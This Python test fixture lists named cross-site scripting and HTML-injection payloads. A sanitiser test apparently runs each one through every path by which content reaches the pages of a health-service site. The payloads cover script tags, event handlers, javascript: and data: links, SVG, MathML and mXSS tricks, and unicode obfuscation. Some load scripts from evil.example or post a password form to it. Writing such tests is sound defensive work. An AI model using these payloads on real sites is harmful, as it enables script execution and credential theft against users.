"""Hostile text: cross-site scripting and HTML-injection payloads that a nurse's Markdown, a
patient's search or feedback comment, a department's details, a glossary entry or a content
file might carry. tests/test_hostile_content.py puts each one through every way text reaches
a page and checks that none of it becomes live markup.

Each entry is (id, text). The ids name the trick, so a failure says which one got through.
"""

PAYLOADS = [
    # -- script ----------------------------------------------------------------------------
    ("script-tag", "<script>alert('owned')</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-data-src", "<script/src=data:,alert(1)>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    # -- event handlers ----------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("local-img-onerror", '<img src="/media/x.png" alt="x" onerror="alert(1)">'),
    ("p-onmouseover", '<p onmouseover="alert(1)">hover</p>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("a-onclick", '<a href="/" onclick="alert(1)">home</a>'),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    # -- javascript:, data:, vbscript: in Markdown link syntax -------------------------------
    ("md-link-javascript", "[click me](javascript:alert(1))"),
    ("md-link-mixed-case", "[click me](JaVaScRiPt:alert(1))"),
    ("md-link-tab", "[click me](java\tscript:alert(1))"),
    ("md-link-entity", "[click me](&#106;avascript:alert(1))"),
    ("md-link-hex-entity", "[click me](&#x6A;avascript&#x3A;alert(1))"),
    ("md-link-data", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-vbscript", "[click me](vbscript:msgbox(1))"),
    ("md-link-angle", "[click me](<javascript:alert(1)>)"),
    ("md-link-reference", "[click me][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-autolink", "<javascript:alert(1)>"),
    ("md-link-title-break", '[ok](https://nhs.example "a\\" onmouseover=\\"alert(1)")'),
    ("md-link-percent", "[click me](%6Aavascript:alert(1))"),
    # -- the same in Markdown image syntax ----------------------------------------------------
    ("md-image-javascript", "![picture](javascript:alert(1))"),
    ("md-image-data-svg", "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-vbscript", "![picture](vbscript:msgbox(1))"),
    ("md-image-alt-break", '![x" onerror="alert(1)](/media/x.png)'),
    ("md-image-src-break", '![x](/media/x.png" onerror="alert(1))'),
    ("md-image-in-link", "[![picture](/media/x.png)](javascript:alert(2))"),
    # -- raw HTML links ------------------------------------------------------------------------
    ("a-javascript-mixed", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-javascript-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("a-javascript-newline", '<a href="java&#x0A;script:alert(1)">x</a>'),
    ("a-javascript-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    # -- SVG and MathML ------------------------------------------------------------------------
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    (
        "svg-foreignobject",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # -- frames, objects, embeds, meta, base, forms ------------------------------------------
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("frameset", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("form-password", '<form action="https://evil.example"><input name="password"></form>'),
    ("button-formaction", "<button formaction=javascript:alert(1)>x</button>"),
    # -- style tricks --------------------------------------------------------------------------
    ("style-tag", "<style>body{display:none}</style>"),
    ("style-attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Call 0900 000</div>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    # -- mutation (mXSS), comments, raw-text elements and entities ---------------------------
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mxss-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("comment-break", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("textarea-raw", "<textarea><script>alert(1)</script></textarea>"),
    ("title-raw", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("entities-as-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity-in-attribute-name", "<img src=x onerror&#61;alert(1)>"),
    # -- breaking out of the attribute or element the text is printed in ---------------------
    ("break-double-quote", '"><script>alert(1)</script>'),
    ("break-single-quote", "'><img src=x onerror=alert(1)>"),
    ("break-attribute", '" onmouseover="alert(1)" x="'),
    ("break-textarea", "</textarea><script>alert(1)</script>"),
    ("break-title", "</title><script>alert(1)</script>"),
    ("break-script", "</script><script>alert(1)</script>"),
    ("break-json", '", "x": "</script><img src=x onerror=alert(1)>'),
    # -- unicode tricks ------------------------------------------------------------------------
    ("unicode-escapes-text", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("line-separators", "x\u2028<img src=x onerror=alert(1)>\u2029y"),
    ("zero-width-javascript", "[click me](java\u200bscript:alert(1))"),
    ("rtl-override", "\u202e<img src=x onerror=alert(1)>"),
    # -- Markdown nesting ----------------------------------------------------------------------
    ("md-bold-html", "**<img src=x onerror=alert(1)>**"),
    ("md-quote-script", "> <script>alert(1)</script>"),
    ("md-code-span", "`<script>alert(1)</script>`"),
    ("md-code-block", "    <script>alert(1)</script>"),
    ("md-table-cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("md-list-html", "- <div onclick=alert(1)>tap</div>\n- [x](javascript:alert(1))"),
    ("md-heading-html", "# <img src=x onerror=alert(1)>"),
]
